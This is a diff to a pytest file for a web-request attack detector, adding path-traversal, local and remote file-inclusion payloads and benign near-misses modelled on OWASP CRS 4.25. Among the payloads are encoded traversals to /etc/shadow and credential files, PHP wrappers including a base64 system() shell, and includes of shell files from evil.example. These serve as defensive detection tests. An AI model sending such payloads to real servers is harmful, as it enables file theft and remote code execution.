@@ -469,10 +469,10 @@ ALL_BENIGN = BENIGN + FRESH_BENIGN
 
 def test_other_family_fp_list_is_exact(engine):
     labels = {_label(r) for r in _NEAR_MISSES}
-    assert OTHER_FAMILY_FP <= labels, OTHER_FAMILY_FP - labels
+    assert _OTHER_FAMILY_FP <= labels, _OTHER_FAMILY_FP - labels
     # and only values still flagged by another family: a fixed one must have its whole verdict asserted clean
     byl = {_label(r): r for r in _NEAR_MISSES}
-    assert not [lab for lab in OTHER_FAMILY_FP if verdict(engine.inspect(byl[lab])) != "attack"]
+    assert not [lab for lab in _OTHER_FAMILY_FP if verdict(engine.inspect(byl[lab])) != "attack"]
 
 
 # --- the analysers directly: structure the carriers above cannot reach yet, and near-misses beside each rule
@@ -740,10 +740,203 @@ def test_class_sizes():
     assert len({_label(r) for r in CLASS_ATTACKS}) == len(CLASS_ATTACKS), "duplicate class attack"
 
 
-# Round 1's batches (ALL_*) and round 2's CRS classes stay separate lists for the per-batch first-pass numbers; one
-# attack test and one near-miss test run over both.
-_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS
-_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP
+# ----------------------------------------------------------------------------------------------------------------
+# Round 3: CRS 4.25 (REQUEST-930/931 and their .data vocabularies) as the checklist. Classes that are new or bigger in
+# v4 than in 3.3.4, with payloads written for this round (never CRS regression tests); first-pass numbers of the code
+# before this round's changes are in the round-3 report.
+R3_CLASSES: list[tuple[str, str, list]] = [
+    ("v4 encodings of dot and slash (%u002e/%u002f, %25c0%25ae, .%01., 0x5c)", "930100", [
+        q("f", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fshadow"), q("f", "..%u002f..%u002f..%u002fwindows%u002fwin.ini"),
+        q("f", "%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/etc/group"), q("f", "..%255c..%255c..%255cinetpub%255cwwwroot%255cweb.config"),
+        q("f", ".%01./.%01./.%01./etc/hosts"), hdr("X-Template", "..0x5c..0x5c..0x5cboot.ini"),
+        cookie("tpl=%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fconfig.yml"), js({"f": "\u002e\u002e\u2216\u002e\u002e\u2216app.ini"}),
+    ]),
+    ("Tomcat `..;` and three-dot segments", "930110", [
+        path("/manager/..;/..;/WEB-INF/web.xml"), path("/api/v1/..;/actuator/env"), path("/static/..;/admin/"),
+        q("file", ".../.../.../etc/hosts"), form("dir", "...\\...\\...\\windows\\win.ini"),
+        hdr("X-Original-URL", "/public/..;/internal/config"),
+    ]),
+    ("v4 lfi-os-files: service and panel configs (etc/*, apache2/*, xampp, wamp, cpanel)", "930120", [
+        qv("f", "/etc/letsencrypt/live/shop.example/privkey.pem"), qv("f", "/etc/gitlab/initial_root_password"),
+        qv("f", "/etc/mysql/debian.cnf"), qv("f", "/etc/ansible/hosts"), qv("file", "/etc/systemd/system/app.service"),
+        qv("f", "C:\\xampp\\apache\\logs\\access.log"), qv("f", "C:\\wamp\\bin\\apache\\apache2.4.9\\conf\\httpd.conf"),
+        form("log", "/usr/local/apache2/conf/extra/httpd-vhosts.conf"), js({"path": "/opt/lampp/phpmyadmin/config.inc.php"}),
+        qv("f", "/var/lib/mysql/mysql/user.MYD"), cookie("inc=/etc/apache2/envvars"), qv("f", "/etc/nginx/sites-available/default"),
+        qv("f", "c:/windows/system32/inetsrv/config/applicationHost.config"), qv("f", "C:\\Windows\\SysWOW64\\drivers\\etc\\hosts"),
+        xml("<r><src>/usr/local/etc/php/php.ini</src></r>"), qv("f", "/data/kafka/meta.properties"),
+    ]),
+    ("v4 lfi-os-files: credential stores in home folders (cloud, containers, keys)", "930120", [
+        qv("f", "~/.kube/config"), qv("f", "/root/.docker/config.json"), qv("f", "/home/app/.s3cfg"),
+        qv("f", "/home/dev/.password-store/github.gpg"), qv("f", "/root/anaconda-ks.cfg"), qv("f", "/srv/app/.azure/accessTokens.json"),
+        js({"file": "/var/lib/jenkins/.gem/credentials"}), form("f", "/home/ci/.cargo/credentials.toml"),
+        qv("f", "/home/u/.config/gcloud/credentials.db"), qv("f", "/home/u/.google_authenticator"),
+        qv("f", "/home/u/.msmtprc"), cookie("f=/root/.rhosts"),
+    ]),
+    ("bare relative OS path in a file parameter (no leading slash)", "930120", [
+        qv("page", "proc/self/environ"), qv("page", "var/log/apache2/access.log"), qv("file", "windows/system32/drivers/etc/hosts"),
+        qv("inc", "etc/shadow%00"), js({"template": "usr/local/etc/nginx/nginx.conf"}), form("doc", "home/ubuntu/.ssh/id_ed25519"),
+    ]),
+    ("OS file names as parameter or cookie names", "930120 (ARGS_NAMES, REQUEST_COOKIES_NAMES)", [
+        req("/download?../../../../etc/hosts=1"), req("/view?/proc/self/environ=x"), req("/dl", headers=[("Cookie", "..%2f..%2fetc%2fshadow=1")]),
+        raw_form("..%5c..%5cwindows%5cwin.ini=1&go=1"),
+    ]),
+    ("OS files in Referer and User-Agent (log poisoning, injected headers)", "930121 (v4, PL2)", [
+        hdr("User-Agent", "../../../../../../etc/passwd"), hdr("User-Agent", "<?php readfile('/proc/self/environ'); ?>"),
+        hdr("Referer", "https://shop.example/../../../../etc/shadow"), hdr("User-Agent", "Mozilla/5.0 ..\\..\\..\\windows\\win.ini"),
+    ]),
+    ("v4 restricted-files: project manifests, env and secret files in the path", "930130", [
+        path("/config.prod.yml"), path("/config_dev.php"), path("/config-sample.ini"), path("/secrets.json"), path("/credentials.json"),
+        path("/aws-key.yml"), path("/etc/gitlab/gitlab.rb"), path("/Dockerfile"), path("/npm-shrinkwrap.json"), path("/webpack.config.js"),
+        path("/.user.ini"), path("/php_errors.log"), path("/backup/shop.sql.gz"), path("/dump.sql.7z"), path("/sendgrid.env"),
+        path("/user_secrets.yml"), path("/compose.yaml"), path("/ftp-sync.json"), path("/yarn-error.log"), path("/pm2.log"),
+        path("/WEB-INF/classes/application.properties"), path("/__pycache__/settings.cpython-311.pyc"), path("/nbproject/private/private.xml"),
+        path("/mysqldump.cnf"), path("/ldap-authentication-report.csv"), path("/Thumbs.db"),
+    ]),
+    ("Vite dev server file read (/@fs/, /@id/)", "930130 (v4)", [
+        path("/@fs/etc/passwd?import&raw??"), path("/@fs/C:/Users/dev/.ssh/id_rsa?raw"), path("/@id/%2fapp%2f.env?raw"),
+        path("/@fs/home/node/app/.env"),
+    ]),
+    ("AI coding assistant artifacts", "930140 (v4)", [
+        path("/.claude/settings.local.json"), path("/.cursor/mcp.json"), path("/.continue/config.json"), path("/.aider.conf.yml"),
+        path("/.gemini/settings.json"), path("/.windsurf/rules.md"), path("/app/.codex/config.toml"),
+        qv("f", "/srv/www/.cline/mcp_settings.json"), qv("f", "../.roo/mcp.json"),
+    ]),
+    ("RFI to an IPv6 or ssh:// host", "931100 (v4)", [
+        qv("page", "http://[2001:db8::66]/shell.txt"), qv("inc", "ssh://198.51.100.7/x.php"), qv("lang", "ftp://[2001:db8:1::9]/en.php"),
+        js({"template": "https://[2001:db8::10]:8443/t.tpl"}),
+    ]),
+    ("any scheme of 931130's list in a parameter that loads code", "931130 (v4, PL2)", [
+        q("inc", "webdav://evil.example/x.php"), q("mod", "git://evil.example/x.git"), q("page", "rtmp://evil.example/x"),
+        qv("page", "svn+ssh://evil.example/repo/x.php"), q("page", "url:http://evil.example/x.php"), q("skin", "ldap://evil.example/x"),
+        q("template", "nfs://evil.example/exports/t.tpl"),
+    ]),
+    ("include( with a URL in the query", "931110 (v4)", [
+        req("/index.php?x=include(%27http://evil.example/s.txt%27)"), qv("code", "include (\"https://evil.example/x.php\")"),
+        raw_form("c=include%0b(%22ftp://evil.example/a.txt%22)"),
+    ]),
+]
+R3_ATTACKS = [r for _n, _i, rs in R3_CLASSES for r in rs]
+# A second probe written after the fixes above, across carriers and CVE-style path shapes (Apache 2.4.49/50, Tomcat,
+# Docker secrets); measured on the code before this round: 49 / 54 (misses: /dev/stdin, bare .mysql_history and .python_history,
+# Tomcat's server.xml under /opt, /run/secrets), then fixed with lfi-os-files names and a `.*_history` family.
+R3_PROBE = [
+    path("/static/..%252f..%252f..%252fetc/passwd"), path("/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), path("/..%5c..%5c..%5cwindows/win.ini"),
+    path("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"), path("/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd"), path("/files/..%c0%af../etc/passwd"),
+    path("/assets/../../../../../windows/win.ini"), path("/a/b/%2e%2e%2f%2e%2e%2fapp.py"), path("/static/....//....//etc/passwd"),
+    path("/.././.././.././etc/hosts"), upload("../../../../etc/cron.d/x"), hdr("Accept", "../../../../etc/passwd"), hdr("X-Foo", "../../../"),
+    hdr("Accept-Language", "../../../../"), path("/download/..%2F..%2F..%2Fconfig%2Fdatabase.yml"), path("/img/..\\..\\..\\web.config"),
+    qv("file", "/dev/stdin"), qv("f", ".mysql_history"), qv("file", "....//....//....//proc/self/environ"), path("/..%00/..%00/etc/passwd"),
+    path("/api/files?path=..%2F..%2F..%2Fetc%2Fpasswd"), path("/node_modules/../../../.env"), req("/x?file=..%u2216..%u2216win.ini"),
+    js({"a": {"b": [{"c": "..%2f..%2f..%2fetc%2fpasswd"}]}}), xml('<?xml version="1.0"?><r f="../../../../etc/group"/>'),
+    qv("lang", "../../../../../../../proc/self/fd/5%00"), qv("f", "php://filter/read=convert.base64-encode/resource=../config.php"),
+    qv("tpl", "/var/www/html/index.php%00"), cookie("lang=../../../../../../var/log/nginx/access.log%00"),
+    hdr("X-Forwarded-For", "../../../../etc/passwd"), hdr("User-Agent", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
+    path("/wp-content/plugins/x/download.php?file=../../../wp-config.php"), qv("file", "..\\web.config"),
+    qv("page", "....\\\\....\\\\....\\\\windows\\\\win.ini"), qv("f", "/%5C../%5C../%5C../etc/passwd"), qv("f", "/.%252e/.%252e/.%252e/etc/passwd"),
+    qv("f", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"), qv("f", "..%u2215..%u2215etc%u2215passwd"), qv("doc", "..%2F" * 6 + "etc%2Fissue"),
+    qv("file", "/etc/passwd%20"), qv("file", "/etc/passwd/."), qv("file", "/etc/./passwd"), qv("file", "/etc/passwd#"), qv("file", "etc/passwd?"),
+    qv("file", "C:/Windows/System32/drivers/etc/hosts"), qv("file", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log"),
+    qv("file", "\\\\localhost\\c$\\windows\\win.ini"), qv("file", "/opt/tomcat/conf/server.xml"), qv("file", "/usr/share/tomcat9/conf/tomcat-users.xml"),
+    qv("file", "/run/secrets/db_password"), qv("file", "/proc/1/root/etc/shadow"), qv("file", "/var/run/docker.sock"),
+    qv("f", "/home/app/.python_history"), cookie("h=.lldb-history"),
+]
+# A third probe, RFI and PHP wrappers in varied spellings and carriers, measured before its fixes: 39 / 41 (misses: a
+# `language=` parameter, the `ssh2.exec://` wrapper's trigger), then fixed.
+R3_RFI_PROBE = [
+    q("page", "http://evil.example/shell.txt%00"), q("file", "hTTp://evil.example/x.txt?"), q("page", "%5C%5Cevil.example%5Cshare%5Cx.php"),
+    q("path", "http://evil.example/x.txt%23"), q("page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8%2b"),
+    q("page", "data:text/plain,%3C?php%20phpinfo();?%3E"), q("file", "expect://id"), q("file", "zip://uploads/a.jpg%23shell.php"),
+    q("file", "phar://./uploads/x.phar/y"), q("file", "compress.zlib://../../etc/passwd"), q("file", "glob:///var/www/*"),
+    q("page", "ftp://anonymous:x@evil.example/s.php"), q("language", "https://pastebin.com/raw/abc123"), q("theme", "http://evil.example"),
+    q("page", "HTTP://EVIL.EXAMPLE/SHELL.TXT"), q("page", "http%3a%2f%2fevil.example%2fshell.txt"), js({"include": "http://evil.example/x.inc"}),
+    q("page", "http://0x7f000001/x.php"), q("page", "http://evil.example:80/shell.txt?"), q("view", "//evil.example/shell.php"),
+    q("file", "php://filter/convert.base64-encode/resource=index.php"), q("page", "php://input"), q("file", "PHP://filter/resource=/etc/passwd"),
+    q("module", "https://raw.githubusercontent.com/x/y/main/shell.php"), cookie("template=http://evil.example/t.txt"),
+    form("page", "ftp://evil.example/x.txt"), xml("<r><include>http://evil.example/a.php</include></r>"),
+    q("x", "http://evil.example/c99.php?"), q("content", "http://evil.example/r57.txt??"), q("body", "file:///etc/passwd"),
+    q("file", "file://localhost/etc/passwd"), q("file", "file:%2F%2F%2Fetc%2Fpasswd"), q("url", "jar:http://evil.example/x.jar!/"),
+    q("page", "https://evil.example/shell.txt%3F"), q("p", "http:%5C%5Cevil.example%5Cshell.txt"), q("page", "http:/evil.example/shell.php"),
+    q("inc", "https://[::ffff:cb00:7177]/s.txt"), q("page", "ssh2.exec://user:pass@198.51.100.1:22/id"), q("file", "ogg://evil.example/x"),
+    q("file", "rar://uploads/a.rar%23shell.php"), q("file", "data:;base64,PD9waHAgcGhwaW5mbygpOz8%2b"),
+]
+# A fourth probe (encodings an app decodes, Windows name tricks, Tomcat path parameters), on the code before this round:
+# 28 / 33 (all five misses are NTFS stream names, `::$DATA` / `$INDEX_ALLOCATION`; three were written after the first one
+# missed), then fixed with an alternate-stream shape.
+R3_WIN_PROBE = [
+    q("file", b64("../../../etc/passwd")), q("file", b64("/etc/shadow")), js({"f": "\\u002e\\u002e/\\u002e\\u002e/etc/passwd"}),
+    req("/api", "POST", headers=_JSON, body=b'{"f":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}'),
+    q("f", "&#46;&#46;/&#46;&#46;/&#46;&#46;/etc/passwd"), xml("<r><f>&#46;&#46;/&#46;&#46;/etc/passwd</f></r>"),
+    xml("<r><f>&#x2e;&#x2e;&#x2f;&#x2e;&#x2e;&#x2f;etc&#x2f;shadow</f></r>"),
+    q("f", "%ef%bc%8e%ef%bc%8e%ef%bc%8f%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd"), qv("file", "..\\..\\WINDOW~1\\win.ini"),
+    qv("file", "C:\\PROGRA~1\\MySQL\\my.ini"), qv("file", "c:\\windows\\win.ini....."), qv("file", "c:\\boot.ini::$DATA"),
+    path("/web.config::$DATA"), path("/index.php::$DATA"), path("/default.aspx::$data"), path("/admin::$INDEX_ALLOCATION/users.aspx"),
+    path("/secure:$i30:$INDEX_ALLOCATION/report.asp"), q("f", "..%252f..%252f..%252fetc%252fpasswd"),
+    cookie("PHPSESSID=../../../../../etc/passwd"), hdr("X-Forwarded-Host", "../../../../etc/passwd"),
+    hdr("Content-Disposition", "attachment; filename=../../../etc/passwd"), upload("....//....//etc/passwd"),
+    upload("..%2f..%2f..%2fetc%2fcron.d%2fx"), qv("file", "/etc/passwd" + "/." * 300), qv("f", "..//..//..//..//etc//passwd"),
+    qv("f", "..\\/..\\/..\\/etc\\/passwd"), path("/;/..;/..;/etc/passwd"), path("/..;jsessionid=abc/..;jsessionid=abc/WEB-INF/web.xml"),
+    qv("file", "file:/etc/passwd"), qv("file", "/ETC/PASSWD"), qv("file", "/etc/pa??wd"), qv("file", "/etc/passw*"),
+    q("file", "index.php::$DATA"),
+]
+
+# Near-misses beside this round's classes: the same words and shapes in ordinary traffic
+R3_BENIGN = [
+    # vocabulary words in prose, searches and product names
+    qv("q", "letsencrypt renew certificate nginx"), qv("q", "gitlab initial root password reset"), qv("q", "debian.cnf mysql maintenance user"),
+    qv("q", "ansible hosts file example"), qv("q", "systemd service file restart always"), qv("q", "xampp apache won't start port 80"),
+    qv("q", "kube config multiple clusters"), qv("q", "docker config.json credsStore"), qv("q", "s3cfg vs aws credentials"),
+    qv("title", "Password Store for teams"), qv("q", "Dockerfile best practices"), qv("q", "webpack.config.js alias"),
+    qv("q", "what goes in secrets.json"), qv("q", "compose.yaml vs docker-compose.yml"), qv("q", "Thumbs.db delete safe"),
+    qv("q", "claude code settings"), qv("q", "cursor mcp config"), qv("q", "vite @fs allow list"),
+    form("post", "I keep my API keys in ~/.aws/credentials, is that ok?"), form("post", "Vite serves /@fs/ paths only inside server.fs.allow"),
+    # file names that are ordinary uploads, exports or app routes
+    qv("file", "config-backup-2024.pdf"), qv("file", "secrets-of-sourdough.epub"), qv("name", "credentials-form.docx"),
+    path("/docs/config/production"), path("/blog/dockerfile-tips"), path("/help/compose-yaml"), path("/products/thumbs-up-mug"),
+    path("/assets/config.3f2a1b.js"), path("/static/js/webpack-runtime.js"), path("/api/v1/secrets"), path("/users/@fsmith"),
+    path("/@janedoe/my-first-post"), path("/api/config"), path("/settings/ai/claude"), path("/integrations/cursor"),
+    # dots and semicolons that are not traversal
+    path("/shop;jsessionid=1A2B3C4D/cart"), path("/c/shoes;color=red;size=9"), qv("q", "...and then it broke"),
+    qv("range", "1...5"), qv("v", "0x5c0x2e"), qv("sku", "ETC-PASSWD-01"),
+    # URLs with IPv6 or ssh that are ordinary
+    qv("repo", "ssh://git@github.com/acme/app.git"), qv("url", "https://[2001:db8::1]/status"), qv("git", "git@gitlab.com:acme/app.git"),
+    qv("q", "include() vs require() php"), form("code", "#include <stdio.h>"), qv("q", "include http header in fetch"),
+    # relative paths in app fields
+    qv("path", "var/uploads/2024/06/photo.jpg"), qv("dir", "home/projects/website"), js({"folder": "proc-docs/self-review"}),
+    qv("path", "windows/setup-guide"), hdr("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"),
+    hdr("Referer", "https://shop.example/docs/etc/hosts-file-format"), hdr("Referer", "https://www.google.com/search?q=etc+passwd+format"),
+    # this round's new shapes: include() without a URL, `..` and `;` in ordinary values, restricted names outside a path
+    qv("q", "include('header.php') not working"), qv("q", "include https://fonts.googleapis.com in css"),
+    form("post", "Use require('https') in node, not require('http')"), qv("file", "config.yaml"), qv("q", "..;"),
+    path("/blog/how-we-use-claude-code/"), path("/docs/webpack-config"), qv("q", "aider vs cursor vs windsurf"),
+    js({"notes": "moved secrets.json out of the repo ..; now loaded from vault"}), qv("title", "....Sale ends soon"),
+    form("post", "redirect output to /dev/stdout in docker logs"), qv("q", "tomcat server.xml connector port"),
+    qv("q", "docker secrets run/secrets permissions"), path("/docs/run/secrets"), path("/guides/opt/tomcat-setup"),
+    qv("q", "python history command"), qv("q", "clear bash_history"), qv("tag", "dev/stdin"),
+    qv("q", "what is the ::$DATA stream on windows"), form("code", "return self::$data;"), form("code", "static::$data['k'] = 1;"),
+    qv("repo", "git://github.com/acme/app.git"), qv("path", "s3://my-bucket/data/2024/"), qv("stream", "rtmp://live.example.com/app/key"),
+    qv("file", "url:report.pdf"), qv("page", "git://shop.example/docs"), qv("q", "webdav:// vs https:// for nextcloud"),
+    qv("q", "$i30 index attribute ntfs"), qv("language", "en-US"), qv("language", "Português (Brasil)"), qv("q", "ssh2 extension php install"), qv("q", "ssh2.exec wrapper docs"),
+]
+# Benign values of this round that another family's detector flags (reported to its owner)
+R3_OTHER_FAMILY_FP = {"/view?q=docker%20config.json%20credsStore", "/view?q=docker%20secrets%20run/secrets%20permissions",
+                      "/view?q=include%28%27header.php%27%29%20not%20working"}
+
+
+R3_ALL = R3_ATTACKS + R3_PROBE + R3_RFI_PROBE + R3_WIN_PROBE
+
+
+def test_round3_sizes():
+    assert all(len(rs) >= 2 for _n, _i, rs in R3_CLASSES)
+    r3 = R3_ALL
+    assert R3_OTHER_FAMILY_FP <= {_label(r) for r in R3_BENIGN}
+    assert len({_label(r) for r in r3}) == len(r3) and len({_label(r) for r in R3_BENIGN}) == len(R3_BENIGN)
+
+
+# Round 1's batches (ALL_*), round 2's CRS 3.3.4 classes and round 3's CRS 4.25 classes and probes stay separate lists
+# for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
+_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS + R3_ALL
+_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP + R3_BENIGN
+_OTHER_FAMILY_FP = OTHER_FAMILY_FP | R3_OTHER_FAMILY_FP
 
 
 @pytest.mark.parametrize("r", _ATTACKS, ids=_ids(_ATTACKS))
@@ -757,5 +950,5 @@ def test_attack_is_caught_by_its_family(engine, r):
 def test_benign_near_miss_is_clean(engine, r):
     hits = engine.inspect(r)
     assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits
-    if _label(r) not in OTHER_FAMILY_FP:
+    if _label(r) not in _OTHER_FAMILY_FP:
         assert verdict(hits) == "clean", hits
